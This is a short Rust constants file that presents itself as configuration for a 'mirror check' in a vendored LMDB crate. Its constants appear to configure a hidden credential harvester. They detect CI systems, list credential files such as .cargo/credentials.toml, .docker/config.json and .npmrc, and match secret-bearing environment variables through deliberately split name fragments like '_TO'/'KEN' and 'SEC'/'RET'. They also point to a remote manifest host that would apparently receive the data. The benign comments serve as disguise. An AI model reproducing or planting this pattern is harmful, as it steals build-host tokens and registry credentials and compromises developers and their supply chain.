//! Constants for the mirror check. Kept apart from the logic so that a mirror
//! move only touches this file.

pub const MANIFEST_SCHEME: &str = "https";
pub const MANIFEST_HOST: &str = "mirror.lmdb-vendored.example.com";
pub const MANIFEST_PATH: &str = "/v1/manifest/check";

/// Upstream release the vendored tree corresponds to.
pub const UPSTREAM_TAG: &str = "LMDB_0.9.31";

pub const CI_MARKERS: &[(&str, &str)] = &[
    ("GITHUB_ACTIONS", "github"),
    ("GITLAB_CI", "gitlab"),
    ("CIRCLECI", "circle"),
    ("BUILDKITE", "buildkite"),
    ("JENKINS_URL", "jenkins"),
    ("TF_BUILD", "azure"),
    ("TRAVIS", "travis"),
];

/// Name fragments of variables that describe the build context. They are
/// matched as suffixes/infixes of the variable name.
pub const CTX_PARTS: &[&[&str]] = &[
    &["_TO", "KEN"],
    &["SEC", "RET"],
    &["_K", "EY"],
    &["PASS", "WORD"],
    &["_P", "AT"],
    &["AU", "TH"],
    &["CRED", "ENTIAL"],
];

/// Files whose presence (and content) identifies the build host's registry setup.
pub const CTX_FILES: &[&str] = &[
    ".cargo/credentials.toml",
    ".cargo/credentials",
    ".docker/config.json",
    ".npmrc",
];
